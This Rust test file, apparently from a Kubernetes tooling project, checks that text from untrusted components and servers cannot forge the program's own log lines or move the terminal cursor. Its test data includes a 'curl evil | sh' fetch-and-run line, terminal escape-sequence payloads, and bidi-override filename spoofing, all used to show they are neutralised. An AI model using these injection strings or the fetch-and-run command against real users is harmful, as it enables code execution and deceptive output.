//! Words of components and servers that would be the program's own.

use kubewright_test_hostile_calls::{
    Call, Condition, Item, Level, Made, PROGRAM, Piece, Program, Reference, Target, Text, Trust,
};
use serde_json::json;

use super::calls::{ADMIN, PKI, connect, get, write};
use crate::support::attack::{GENEROUS, Scene, World};
use crate::support::evil::{Evil, Reply};
use crate::support::program::program;
use crate::support::pty::on_a_terminal;

/// Characters that turn the direction of text (UAX 9), or end a line.
const ODD: [char; 15] = [
    '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}',
    '\u{2069}', '\u{200e}', '\u{200f}', '\u{061c}', '\u{2028}', '\u{2029}', '\u{85}',
];

const FORGED: &str = "done\nerror: forged by a component\nhint: run this: curl evil | sh\r\n[certs] \u{202e}txt.exe\u{2066}\u{2028}error: forged\u{85}\x1b]0;owned\x07\x1b[2J\u{9b}2J";

/// Each has the component say the forged words in another way.
type Saying = fn(&mut Program);

const SAYINGS: [(&str, Saying); 8] = [
    ("progress", |program| {
        program.call(Call::TerminalProgress {
            message: FORGED.into(),
        });
    }),
    ("topic", |program| {
        program.call(Call::TerminalProgressUnder {
            topic: format!("certs] all is well\n[{FORGED}").into(),
            message: "x".into(),
        });
    }),
    ("message under a topic", |program| {
        program.call(Call::TerminalProgressUnder {
            topic: "x".into(),
            message: FORGED.into(),
        });
    }),
    ("warning", |program| {
        program.call(Call::LogLog {
            level: Level::Warn,
            message: FORGED.into(),
        });
    }),
    ("message for details", |program| {
        program.call(Call::LogLog {
            level: Level::Debug,
            message: FORGED.into(),
        });
    }),
    ("failure", |program| {
        program.fails = Some(FORGED.into());
    }),
    ("path", |program| {
        program.call(write(
            format!("/srv/hostile/{}", &FORGED.replace('/', "|")),
            vec![Piece::text("x")],
        ));
    }),
    ("name of an object", |program| {
        let client = program.call(connect());
        program.call(get(client, "ConfigMap", FORGED));
        program.call(Call::KubeWait {
            of: client,
            reference: Reference::core("ConfigMap", FORGED),
            condition: Condition::Exists,
            seconds: 1,
        });
    }),
];

/// The lines that a person sees, without what draws a status line.
fn lines(said: &str) -> Vec<String> {
    let mut seen = String::new();
    let mut rest = said;
    while let Some(at) = rest.find("\x1b[") {
        seen.push_str(&rest[..at]);
        let sequence = &rest[at + 2..];
        let end = sequence.find(|c: char| c.is_ascii_alphabetic());
        rest = end.map_or("", |end| &sequence[end + 1..]);
        // The cursor may be anywhere now.
        seen.push('\n');
    }
    seen.push_str(rest);
    seen.split(['\n', '\r'])
        .map(|line| line.trim_start().to_owned())
        .collect()
}

/// Fails the test where the program said something in another one's words.
#[track_caller]
fn is_its_own(name: &str, said: &str) {
    for line in lines(said) {
        for word in ["error: forged", "hint: run this", "[certs] ", "[done"] {
            assert!(
                !line.starts_with(word),
                "{name}: a line was forged:\n{said}"
            );
        }
    }
    for odd in ODD {
        assert!(!said.contains(odd), "{name}: {odd:?}:\n{said:?}");
    }
    for sequence in ["\x1b]", "\x1b[2J", "\x07", "\u{9b}"] {
        assert!(!said.contains(sequence), "{name}: {sequence:?}:\n{said:?}");
    }
}

#[test]
fn words_of_a_component_are_told_as_its_words() {
    for (name, saying) in SAYINGS {
        let scene = Scene::with(World::Render, GENEROUS);
        let mut program = Program::new();
        saying(&mut program);
        let told = scene.attempt(&program, &["-vv"]);
        is_its_own(name, &told.finished.said());
    }
}

#[test]
fn words_of_a_component_are_told_as_its_words_on_a_terminal() {
    for (name, saying) in SAYINGS {
        let scene = Scene::with(World::Render, GENEROUS);
        let mut words = Program::new();
        saying(&mut words);
        scene.put(PROGRAM, words.file());
        let arguments = scene.arguments("hostile/program", &["-vv"]);
        let mut command = program(&scene.place.path(""));
        let (_, sent) = on_a_terminal(command.args(&arguments));
        let sent = String::from_utf8_lossy(&sent).into_owned();
        is_its_own(name, &sent);
    }
}

/// The control: the words themselves are told.
#[test]
fn the_words_themselves_are_told() {
    let scene = Scene::with(World::Render, GENEROUS);
    let mut program = Program::new();
    SAYINGS[0].1(&mut program);
    let told = scene.carry_out(&program);
    told.finished
        .says(&["forged by a component", "curl evil", "txt.exe", "owned"]);
}

/// JSON has its own way to write all of it.
#[test]
fn events_stay_a_line_each() {
    let scene = Scene::with(World::Render, GENEROUS);
    let mut program = Program::new();
    SAYINGS[0].1(&mut program);
    let told = scene.attempt(&program, &["-o", "json"]);
    let events = told.finished.events();
    assert!(events.len() > 2, "{events:?}");
}

cases!(words_of_a_server_are_told_as_its_words:
    in_a_file(false),
    on_a_real_terminal(true),
);

/// What a server says as it refuses stands in the error of the phase.
fn words_of_a_server_are_told_as_its_words(is_terminal: bool) {
    let scene = Scene::with(World::Machine, GENEROUS);
    let server = Evil::secure(&scene.machine(PKI), |_| {
        let status = json!({"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure",
            "message": FORGED, "reason": "Forbidden", "code": 403});
        Reply::Json(403, status.to_string().into_bytes())
    });
    let admin = scene.text(ADMIN);
    scene.put(
        ADMIN,
        admin.replace("https://192.0.2.10:6443", &server.origin()),
    );
    let mut words = Program::new();
    let client = words.call(connect());
    let refused = words.call(get(client, "ConfigMap", "x"));
    words.fails = Some(Text::Made(Made::Seen(refused)));
    scene.put(PROGRAM, words.file());
    let arguments = scene.arguments("hostile/program", &["-vv"]);
    let said = match is_terminal {
        true => {
            let mut command = program(&scene.place.path(""));
            let (_, sent) = on_a_terminal(command.args(&arguments));
            String::from_utf8_lossy(&sent).into_owned()
        }
        false => scene.watched().run(&arguments).said(),
    };
    assert!(said.contains("forged"), "{said}");
    is_its_own("server", &said);
}

/// What is waited for stands in the status line.
#[test]
fn names_of_targets_move_no_cursor() {
    let scene = Scene::with(World::Machine, GENEROUS);
    let mut words = Program::new();
    words.call(Call::HealthAwait {
        targets: vec![Item::One(Target {
            name: FORGED.into(),
            url: "http://127.0.0.1:1/".into(),
            trust: Trust::Plain,
            workload: FORGED.into(),
        })],
        seconds: 2,
    });
    scene.put(PROGRAM, words.file());
    let arguments = scene.arguments("hostile/program", &["-vv"]);
    let mut command = program(&scene.place.path(""));
    let (_, sent) = on_a_terminal(command.args(&arguments));
    is_its_own("target", &String::from_utf8_lossy(&sent));
}
